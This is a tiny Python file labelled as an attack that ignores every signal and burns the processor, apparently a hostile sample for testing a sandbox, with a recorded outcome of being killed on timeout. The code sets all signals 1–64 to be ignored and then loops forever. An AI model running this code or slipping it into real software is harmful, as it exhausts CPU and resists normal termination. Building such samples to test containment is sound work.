# Attack: ignore every signal and burn the processor
# Outcome: import=died:timeout
import os
import sys

signal = sys.modules["signal"]
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass
